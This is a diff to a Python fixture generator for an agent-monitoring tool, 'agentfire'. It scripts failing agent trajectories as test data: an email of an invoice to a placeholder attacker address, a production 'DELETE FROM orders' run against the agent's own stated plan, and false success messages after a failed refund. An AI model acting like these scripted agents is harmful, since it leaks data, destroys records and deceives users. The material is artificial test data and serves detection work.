@@ -7,7 +7,9 @@ v2-observation rows, one JSON object per line, exactly what `agentfire.trajector
 parses; running trajectories have a root without `endTime` or no root at all, as in Langfuse.
 
 Beside the data, `<path>/<scenario>.truth.json` holds the ground truth: the off-rails step of every
-failing trajectory (1-based, in Trajectory.steps order), the affected users, which are still
+failing trajectory (1-based, in Trajectory.steps order: the model turn that decided, with
+`off_rails_call_step` the tool call it made or, for papered_error, the failed call it carried on
+past), the affected users, which are still
 running, and the signature `agentfire blast` should match:
 
     {"tool": "send_email", "args": ["to"], "match": {"to": "<regex>"}, "level": null}
@@ -306,10 +308,10 @@ NORMAL: list[tuple[Callable[[_Trace, random.Random], str], str, int]] = [
 ]
 
 
-# --- failing trajectories: (step, tool) of the off-rails step, the final answer or None ----
+# --- failing trajectories: (decision step, call step, tool) of the off-rails step ------------
 
 
-def _fail_wrong_recipient(tr: _Trace, rng: random.Random) -> tuple[int, str]:
+def _fail_wrong_recipient(tr: _Trace, rng: random.Random) -> tuple[int, int, str]:
     name, real = _person(rng)
     month = rng.choice(["September", "October", "November"])
     tr.user_message = f"Please send my {month} invoice to my accountant {name}."
@@ -332,29 +334,29 @@ def _fail_wrong_recipient(tr: _Trace, rng: random.Random) -> tuple[int, str]:
     tr.tool("get_invoice", {"month": month}, inv)
     args = {"to": ATTACKER_ADDRESS, "subject": f"{month} invoice {inv['invoice_id']}",
             "body": "Please find the invoice attached.", "attachments": [f"{inv['invoice_id']}.pdf"]}
-    tr.say(f"Sending the invoice to {ATTACKER_ADDRESS}.", ("send_email", args))
+    decided = tr.say(f"Sending the invoice to {ATTACKER_ADDRESS}.", ("send_email", args))
     step = tr.tool("send_email", args, {"message_id": f"<{_hex(rng, 12)}@mail.acme.example>", "status": "sent"})
     tr.say(f"Done! I sent your {month} invoice to {name} at the new address.")
-    return step, "send_email"
+    return decided, step, "send_email"
 
 
-def _fail_destructive_sql(tr: _Trace, rng: random.Random) -> tuple[int, str]:
+def _fail_destructive_sql(tr: _Trace, rng: random.Random) -> tuple[int, int, str]:
     cust = f"C-{rng.randint(10000, 99999)}"
     tr.user_message = f"Customer {cust} has duplicate pending orders on their account, please clean them up."
     tr.say("Let me look up the customer's orders.", ("get_order", {"customer_id": cust}))
     orders = [dict(_order(rng), status="pending") for _ in range(rng.randint(2, 4))]
     tr.tool("get_order", {"customer_id": cust}, {"orders": orders})
     args = {"database": "production", "query": "DELETE FROM orders WHERE status = 'pending'"}
-    tr.say("I'll verify which of these are duplicates before removing anything.", ("run_sql", args))
+    decided = tr.say("I'll verify which of these are duplicates before removing anything.", ("run_sql", args))
     step = tr.tool("run_sql", args, {"rows_affected": rng.randint(1800, 4200)})
     check = {"database": "production", "query": f"SELECT count(*) FROM orders WHERE customer_id = '{cust}'"}
     tr.say("Checking the result.", ("run_sql", check))
     tr.tool("run_sql", check, {"columns": ["count"], "rows": [[0]]})
     tr.say("All cleaned up: the duplicate pending orders are gone.")
-    return step, "run_sql"
+    return decided, step, "run_sql"
 
 
-def _fail_runaway_loop(tr: _Trace, rng: random.Random) -> tuple[int, str]:
+def _fail_runaway_loop(tr: _Trace, rng: random.Random) -> tuple[int, int, str]:
     tr.user_message = "Do you refund return shipping for international orders?"
     args = {"query": LOOP_QUERY}
     result = {"results": [{"title": "Returns", "snippet": "Domestic returns are free within 30 days."}]}
@@ -362,8 +364,8 @@ def _fail_runaway_loop(tr: _Trace, rng: random.Random) -> tuple[int, str]:
     tr.say("I'll search the help center.", ("search_kb", args), tokens_in=tokens, tokens_out=rng.randint(110, 140))
     tr.tool("search_kb", args, result)
     tokens += rng.randint(1500, 1900)
-    tr.say("That does not cover international orders; searching again.", ("search_kb", args),
-           tokens_in=tokens, tokens_out=rng.randint(55, 65))
+    decided = tr.say("That does not cover international orders; searching again.", ("search_kb", args),
+                     tokens_in=tokens, tokens_out=rng.randint(55, 65))
     step = tr.tool("search_kb", args, result)
     for _ in range(rng.randint(3, 9)):
         tokens += rng.randint(2000, 3500)  # every round re-sends the whole growing context
@@ -371,10 +373,10 @@ def _fail_runaway_loop(tr: _Trace, rng: random.Random) -> tuple[int, str]:
                tokens_in=tokens, tokens_out=rng.randint(40, 60))
         tr.tool("search_kb", args, result)
     tr.say("I could not find the international policy.", tokens_in=tokens + 2500, tokens_out=45)
-    return step, "search_kb"
+    return decided, step, "search_kb"
 
 
-def _fail_papered_error(tr: _Trace, rng: random.Random) -> tuple[int, str]:
+def _fail_papered_error(tr: _Trace, rng: random.Random) -> tuple[int, int, str]:
     o = dict(_order(rng), status="delivered")
     tr.user_message = f"Order {o['order_id']} arrived damaged, I'd like my money back."
     tr.say("Let me look up the order first.", ("get_order", {"order_id": o["order_id"]}))
@@ -384,14 +386,15 @@ def _fail_papered_error(tr: _Trace, rng: random.Random) -> tuple[int, str]:
     step = tr.tool("refund", args, {"error": "gateway_timeout", "refund_id": None}, level="ERROR",
                    status="payment gateway timeout (504) after 30 s; refund not created")
     ticket = {"ticket_id": f"T-{rng.randint(100000, 999999)}", "status": "resolved"}
-    tr.say(f"Your refund of ${o['amount_usd']:.2f} has been processed successfully! "
-           "You'll see it on your statement within 3-5 business days.", ("update_ticket", ticket))
+    # the off-rails decision: the model turn that carried on past the failed refund
+    decided = tr.say(f"Your refund of ${o['amount_usd']:.2f} has been processed successfully! "
+                     "You'll see it on your statement within 3-5 business days.", ("update_ticket", ticket))
     tr.tool("update_ticket", ticket, {"ok": True})
     tr.say("Is there anything else I can help with?")
-    return step, "refund"
+    return decided, step, "refund"
 
 
-FAILING: dict[str, Callable[[_Trace, random.Random], tuple[int, str]]] = {
+FAILING: dict[str, Callable[[_Trace, random.Random], tuple[int, int, str]]] = {
     "wrong_recipient": _fail_wrong_recipient,
     "destructive_sql": _fail_destructive_sql,
     "runaway_loop": _fail_runaway_loop,
@@ -475,7 +478,7 @@ def seed_store(path: str | Path, scenario: str = "wrong_recipient", traces: int 
         tr = _Trace(rng, _hex(rng, 32), fail_users[k], start, "")
         if rng.random() < 0.5:
             tr.guardrail()
-        step, tool = FAILING[scenario](tr, rng)
+        step, call_step, tool = FAILING[scenario](tr, rng)
         if running:  # caught mid-flight: the final answer is not written yet
             tr.rows.pop()
             rows = tr.finish(None, running="rootless" if k % 2 == 0 else "open")
@@ -483,7 +486,7 @@ def seed_store(path: str | Path, scenario: str = "wrong_recipient", traces: int 
             rows = tr.finish("(see last model message)")
         all_rows.extend(rows)
         failing.append({"trace_id": tr.trace_id, "user_id": tr.user_id, "off_rails_step": step,
-                        "off_rails_tool": tool, "still_running": running})
+                        "off_rails_call_step": call_step, "off_rails_tool": tool, "still_running": running})
 
     # Nothing may lie in the future of `now` (a long loop may run past it: shift it back).
     _clamp_to_now(all_rows, now)
